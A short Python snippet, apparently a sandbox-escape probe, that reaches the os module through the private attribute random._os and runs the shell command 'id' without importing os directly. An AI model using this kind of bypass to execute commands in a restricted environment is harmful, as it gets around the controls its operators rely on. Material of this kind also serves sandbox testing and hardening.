import random
d = {k: m for k, m in [("r", random)]}
d["r"]._os.system("id")
